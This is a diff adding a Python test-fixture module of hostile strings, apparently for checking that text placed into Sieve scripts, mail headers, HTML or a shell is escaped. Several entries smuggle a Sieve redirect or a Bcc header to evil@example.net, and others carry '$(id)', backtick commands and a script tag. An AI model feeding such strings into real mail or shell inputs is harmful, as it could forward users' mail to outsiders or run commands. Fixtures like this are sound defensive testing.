@@ -1,0 +1,27 @@
+"""Texts of people that could be more than text to what they are put into: Sieve, JSON, XML, HTML, mail headers, a shell."""
+
+HOSTILE = {
+    "quotes": '" ; redirect "evil@example.net" ; "',
+    "backslashes": 'a\\b \\" \\\\ ends with \\',
+    "lone dot": 'before\n.\nredirect "evil@example.net";\n..\nafter',
+    "text block": 'text:\n.\n;\nredirect "evil@example.net";\n',
+    "end of a comment": '*/ redirect "evil@example.net"; /* # \r\nstop;',
+    "variables": "${subject} ${1} ${unicode:0041} ${hex:41} %{user} %s {0} $(id) `id`",
+    "mime headers": "Content-Type: text/html\n\n<script>alert(1)</script>\n--boundary\n--boundary--\n",
+    "emoji and scripts": "🏖️ Łukasz Zażółć 北京 עברית é e\u0301",
+    "long line": "x" * 5000 + " end",
+    "spaces at line ends": "a \n\tb\t\n \n\nFrom me\n=3D =\nend",
+    "bidirectional marks": "abc\u202edef\u2066ghi\u2069",
+    "controls": "a\x00b\x07c\x1b[31md\x7f",
+    "carriage return alone": "a\rb\r\rredirect",
+}
+
+SUBJECTS = {
+    "quotes": '" ; redirect "evil@example.net" ; "',
+    "backslashes": 'a\\b \\" ends with \\',
+    "encoded word": "=?utf-8?q?=22?= ${subject}",
+    "emoji": "🏖️ afwezig, Łukasz",
+    "long": "onderwerp " * 60,
+    "header injection": "Away\r\nBcc: evil@example.net\r\nX-Evil: yes",
+    "controls": "a\x00b\x1bc",
+}
